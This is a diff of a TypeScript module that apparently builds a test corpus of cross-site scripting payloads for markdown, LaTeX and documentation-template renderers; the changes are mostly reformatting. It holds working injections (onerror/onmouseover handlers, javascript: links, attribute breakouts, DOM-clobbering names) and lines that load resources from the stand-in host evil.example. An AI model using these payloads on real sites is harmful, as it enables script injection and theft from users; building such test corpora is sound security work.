@@ -1,7 +1,17 @@
 /** Where payloads would send or fetch something. */
 export const EVIL = 'evil.example';
 
-const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe', 'x'];
+const TAGS = [
+  'img src=x',
+  'svg',
+  'body',
+  'video src=x',
+  'audio src=x',
+  'details open',
+  'input autofocus',
+  'iframe',
+  'x',
+];
 const HANDLERS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onmouseover', 'onanimationend tabindex=1'];
 
 /** How a scheme is hidden from who only looks for its name. */
@@ -185,7 +195,7 @@ const FORMULAS: ((call: string) => string)[] = [
   (call) => `$$\\href{javascript:${call}}{x}$$`,
   (call) => `$$\\url{javascript:${call}}$$`,
   (call) => `$$\\htmlData{onclick=${call}}{x}$$`,
-  (call) => `$$\\htmlStyle{background:url(https://${EVIL}/k)}{x}$$`,
+  () => `$$\\htmlStyle{background:url(https://${EVIL}/k)}{x}$$`,
   (call) => `$$\\htmlId{x" onmouseover="${call}}{x}$$`,
   () => `$$\\includegraphics{https://${EVIL}/k.png}$$`,
   (call) => `$$\\text{<img src=x onerror=${call}>}$$`,
@@ -205,18 +215,31 @@ const MARKDOWN: ((call: string) => string)[] = [
   (call) => `[x][^n]\n\n[^n]: <img src=x onerror=${call}>`,
   (call) => `<details><summary><img src=x onerror=${call}></summary>\n\nx\n\n</details>`,
   (call) => `{% tabs %}\n{% tab title="<img src=x onerror=${call}>" %}\nx\n{% endtab %}\n{% endtabs %}`,
-  (call) => `{% hint style="info&quot; onmouseover=&quot;${call}" icon="x&quot; onload=&quot;${call}" %}\nx\n{% endhint %}`,
+  (call) =>
+    `{% hint style="info&quot; onmouseover=&quot;${call}" icon="x&quot; onload=&quot;${call}" %}\nx\n{% endhint %}`,
   (call) => `{% swagger src="javascript:${call}" path="/x" method="get" %}`,
   (call) => `<i class="fa-x&quot; onmouseover=&quot;${call}"></i>`,
   (call) => `<span class="emoji" data-code="&quot;><img src=x onerror=${call}>">x</span>`,
   (call) => `[/users/x"><img src=x onerror=${call}>](/users/x "mention")`,
-  (call) => `<table data-view="cards"><thead><tr><th data-card-target data-type="content-ref"></th></tr></thead><tbody><tr><td><a href="javascript:${call}">x</a></td></tr></tbody></table>`,
+  (call) =>
+    `<table data-view="cards"><thead><tr><th data-card-target data-type="content-ref"></th></tr></thead><tbody><tr><td><a href="javascript:${call}">x</a></td></tr></tbody></table>`,
   (call) => `<img src="x" width="1&quot; onerror=&quot;${call}" alt="&quot; onerror=&quot;${call}">`,
   (call) => `<p align="center&quot; onmouseover=&quot;${call}">x</p>`,
 ];
 
 /** Names by which content could take the place of what scripts look for. */
-const CLOBBERED = ['body', 'head', 'cookie', 'location', 'documentElement', 'site-menu', 'main', 'search-found', 'base', '__proto__'];
+const CLOBBERED = [
+  'body',
+  'head',
+  'cookie',
+  'location',
+  'documentElement',
+  'site-menu',
+  'main',
+  'search-found',
+  'base',
+  '__proto__',
+];
 
 /** Script injections of every kind; each of them calls `pwned` with its own number. */
 export function payloads(): string[] {
